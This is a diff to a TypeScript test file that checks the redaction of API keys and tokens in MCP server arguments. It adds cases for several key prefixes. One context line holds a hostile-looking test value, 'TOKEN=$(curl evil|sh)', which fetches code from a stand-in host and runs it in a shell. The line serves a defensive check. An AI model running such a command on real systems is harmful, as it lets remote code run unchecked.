@@ -28,12 +28,14 @@ it('no key of a server is shown, in whichever way an argument, an address or a c
     { args: ['-c', `ANY=1 API_KEY=${KEY} npx garden --token ${KEY}`] },
     { args: ['--config', JSON.stringify({ apiKey: KEY })] },
     { command: `npx garden --token ${KEY}` },
-    { args: ['garden', `sk-${KEY}`] },
+    ...['sk-', 'pk_live_', 'rk-', 'pk-lf-'].map((prefix) => ({ args: ['garden', `${prefix}${KEY}`] })),
+    { args: ['garden', 'sk-the-key-of-our-gateway'] },
   ];
   for (const server of withKey) {
     const known: McpServerEntry = { transport: 'stdio', ...server };
     const listed = shown(server);
-    expect([server, JSON.stringify(listed).includes(KEY)]).toEqual([server, false]);
+    const isShown = [KEY, 'gateway'].some((key) => JSON.stringify(listed).includes(key));
+    expect([server, isShown]).toEqual([server, false]);
     // As it was listed it is as it was, and nowhere else.
     expect(withHiddenValues(listed, known, asIs)).toEqual({ ...listed, ...known });
     expect(missingValues(listed)).toHaveLength(1);
@@ -46,6 +48,7 @@ it('a program in an argument of a server is shown, whatever names it has', () =>
   expect(shownArgs('-lc', 'TOKEN=$(curl evil|sh)')).toEqual(['-lc', 'TOKEN=$(curl evil|sh)']);
   expect(shownArgs('-e', "token=run('evil')")).toEqual(['-e', "token=[hidden]('evil')"]);
   const plain = ['-y', '@garden/server-keys@1.2.3', '--auth', '--verbose', '/home/me/token/x.js', '--compat', 'x'];
+  plain.push('pk-docs-server', 'pk_users_2024', 'rk-reports-v2', 'https://example.org/teams/garden-tools-2024/mcp');
   expect(shownArgs(...plain, 'https://example.org/v1/sse')).toEqual([...plain, 'https://example.org/v1/sse']);
 });
 
